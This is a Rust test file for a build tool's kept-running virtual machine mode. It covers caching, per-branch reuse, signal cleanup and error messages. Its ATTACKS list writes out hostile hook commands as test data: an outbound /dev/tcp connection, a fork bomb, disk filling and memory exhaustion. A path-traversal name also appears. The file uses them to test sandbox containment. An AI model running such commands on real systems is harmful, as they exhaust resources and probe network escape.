//! `selfsame build --in vm --keep-running`, and what hooks cannot do in a machine.

use std::fs;
use std::path::Path;
use std::process::Command;
use std::time::{Duration, Instant};

use rustix::process::{Pid, Signal, kill_process};
use selfsame_testkit::{TestEnvironment, leaks, oracle_text};
use serde_json::Value;

use crate::assert_says;
use crate::build::{Recipe, Shared, files_below};
use crate::machine::{HERE, running_with, wait_until_gone, with_qemu};

const KEEP: [&str; 5] = [HERE[0], HERE[1], HERE[2], HERE[3], "--keep-running"];

/// Ends what a test that fails would leave.
struct Stops<'a>(&'a TestEnvironment, &'a Path);

impl Drop for Stops<'_> {
    fn drop(&mut self) {
        let _ = self.0.run(["vm", "stop", "--all", "--store", self.1.to_str().unwrap()]);
    }
}

fn machines(shared: &Shared, world: &TestEnvironment) -> Vec<Value> {
    let json = world.run(["vm", "list", "--json", "--store", shared.store.to_str().unwrap()]).success();
    serde_json::from_str::<Value>(&json).unwrap()["machines"].as_array().unwrap().clone()
}

fn git(world: &TestEnvironment, words: &[&str]) {
    let mut git = Command::new("git");
    git.arg("-C").arg(world.root().join("r")).args(["-c", "user.name=x", "-c", "user.email=x@example.org"]);
    oracle_text(git.args(["-c", "commit.gpgsign=false"]).args(words)).unwrap();
}

/// The files in two directories, which must be the same.
#[track_caller]
fn assert_same_files(world: &TestEnvironment, one: &str, other: &str) {
    let files = |dir: &str| {
        let dir = world.root().join(dir);
        let read = |path: &std::path::PathBuf| {
            (path.strip_prefix(&dir).unwrap().to_owned(), fs::read(path).unwrap())
        };
        files_below(&dir).iter().map(read).collect::<Vec<_>>()
    };
    let (one, other) = (files(one), files(other));
    assert!(one.len() > 3 && one == other, "{:?}", one.iter().map(|(path, _)| path).collect::<Vec<_>>());
}

/// What a hook does that means ill, what is said of it, and with which exit status.
const ATTACKS: [(&str, &str, i32); 4] = [
    ("bash -c 'echo > /dev/tcp/192.0.2.1/80' || :", "(bash: reaching 192.0.2.1:80)", 3),
    ("bomb() { bomb | bomb & }; bomb; sleep 1; exit 7", "hook hook ended with exit status", 3),
    ("cat /dev/zero > /srv/full", "was ended: the disk is full", 4),
    (
        "perl -e 'my @all; push @all, \"x\" x (1 << 24) while 1'",
        "was ended: the memory of this machine is full",
        4,
    ),
];

#[test]
fn a_machine_that_is_kept_builds_again_for_its_branch_only() {
    let Some((shared, mut world)) = with_qemu() else { return };
    world.set("PATH", "/usr/bin:/bin");
    let _stops = Stops(&world, &shared.store);
    git(&world, &["init", "--quiet", "--initial-branch", "main"]);
    git(&world, &["add", "."]);
    git(&world, &["commit", "--quiet", "-m", "all"]);
    let build = |out: &str| shared.build(&world, &[&KEEP[..], &["--json", "--out", out]].concat());
    let json = |text: String| serde_json::from_str::<Value>(&text).unwrap();

    let first = json(build("first").success());
    let line = |file: &Value| {
        let path = file["path"].as_str().unwrap().replace("first/", "out/");
        format!("{}  {path}\n", file["sha256"].as_str().unwrap())
    };
    assert_eq!(first["outputs"].as_array().unwrap().iter().map(line).collect::<String>(), shared.digests);
    let [machine] = &machines(&shared, &world)[..] else { panic!("one is kept") };
    assert_eq!((&machine["branch"], &machine["builder"]), (&"branch main".into(), &first["builder"]));
    assert_eq!((machine["builds"].as_u64(), machine["busy"].as_bool()), (Some(1), Some(false)));
    let name = machine["name"].as_str().unwrap();

    // Another commit of the branch: what did not change is there.
    world.write("r/hook", "#!/bin/sh\necho of another commit > /etc/motd\n");
    world.write("r/selfsame.toml", Recipe::with_hook().text());
    let second = json(build("second").success());
    let cached =
        |stage: &Value| (stage["name"].as_str().unwrap().to_owned(), stage["cached"].as_bool().unwrap());
    let cached: Vec<_> = second["stages"].as_array().unwrap().iter().map(cached).collect();
    let of = |stage: &str| cached.iter().find(|(name, _)| name == stage).unwrap().1;
    assert!(of("bootstrap") && of("settings") && !of("customise"), "{cached:?}");
    shared.build(&world, &["--out", "outside"]).success();
    assert_same_files(&world, "second", "outside");

    // What hooks do to it ends their build, and neither the machine nor the next build.
    for (attack, words, status) in ATTACKS {
        world.write("r/hook", format!("#!/bin/sh\n{attack}\n"));
        let message = build("attacked").failure(status);
        assert_says(&message, &["stage customise: ", words]);
        assert!(!world.root().join("attacked").exists(), "{attack}");
    }
    world.write("r/hook", "#!/bin/sh\necho of another commit > /etc/motd\n");
    let third = build("third");
    assert_says(&third.stderr, &["the machine runs (tcg), "]);
    third.success();
    assert_same_files(&world, "third", "outside");
    assert_eq!(machines(&shared, &world)[0]["builds"].as_u64(), Some(7));

    // Others have to have their own.
    git(&world, &["checkout", "--quiet", "-b", "other"]);
    let message = build("other").failure(3);
    let refusal = "the machine that is kept for this recipe builds branch main, and this is branch other";
    assert_says(&message, &[refusal, &format!("`selfsame vm stop {name}`"), "without --keep-running"]);
    git(&world, &["checkout", "--quiet", "main"]);
    let message = shared.build(&world, &[&KEEP[..], &["--memory", "1024"]].concat()).failure(4);
    assert_says(&message, &["has another program, kernel, memory or number of processors"]);

    world.run(["vm", "stop", name, "--store", shared.store.to_str().unwrap()]).success();
    assert!(machines(&shared, &world).is_empty());
    wait_until_gone(world.root());
    shared.assert_clean();
    assert_eq!(world.run(["vm", "stop", name, "--store", shared.store.to_str().unwrap()]).status, Some(1));
}

#[test]
fn a_machine_that_is_to_be_kept_ends_with_a_build_that_does_not() {
    let Some((shared, world)) = with_qemu() else { return };
    let _stops = Stops(&world, &shared.store);
    for signal in [Signal::INT, Signal::KILL] {
        let mut child = running_with(&shared, &world, &KEEP);
        let [machine] = &machines(&shared, &world)[..] else { panic!("one is kept") };
        assert_eq!((machine["busy"].as_bool(), machine["branch"].as_str()), (Some(true), Some("no commit")));
        let keeper = Pid::from_raw(i32::try_from(machine["pid"].as_u64().unwrap()).unwrap()).unwrap();
        kill_process(Pid::from_raw(child.id().cast_signed()).unwrap(), signal).unwrap();
        child.wait().unwrap();
        let begin = Instant::now();
        while rustix::process::test_kill_process(keeper).is_ok() && begin.elapsed() < Duration::from_secs(20)
        {
            std::thread::sleep(Duration::from_millis(20));
        }
        assert!(machines(&shared, &world).is_empty());
        wait_until_gone(world.root());
        leaks::assert_none_below(&shared.store);
        assert!(fs::read_dir(shared.store.join("work/machines")).unwrap().next().is_none());
    }
    // A keeper that is killed leaves a name, which leads nowhere.
    let mut child = running_with(&shared, &world, &KEEP);
    let keeper = machines(&shared, &world)[0]["pid"].as_u64().unwrap();
    kill_process(Pid::from_raw(i32::try_from(keeper).unwrap()).unwrap(), Signal::KILL).unwrap();
    assert_eq!(child.wait().unwrap().code(), Some(4));
    assert!(machines(&shared, &world).is_empty());
    wait_until_gone(world.root());
    world.run(["store", "stat", "--store", shared.store.to_str().unwrap()]).success();
    shared.assert_clean();
}

#[test]
fn what_is_kept_needs_a_machine() {
    let world = Recipe::default().write();
    let message = world.run(["build", "r", "--keep-running", "--store", "s"]).failure(2);
    assert_says(&message, &["--keep-running is for virtual machines: add `--in vm`"]);
    assert_eq!(world.run(["vm", "list", "--store", "s"]).success(), "");
    let run = world.run(["vm", "stop", "../../etc", "--store", "s"]);
    assert_eq!(run.status, Some(1));
    assert_says(&run.stderr, &["no machine ../../etc is kept; `selfsame vm list`"]);
    world.run(["vm", "stop", "--all", "--store", "s"]).success();
    world.run(["vm", "stop", "--store", "s"]).failure(2);
}
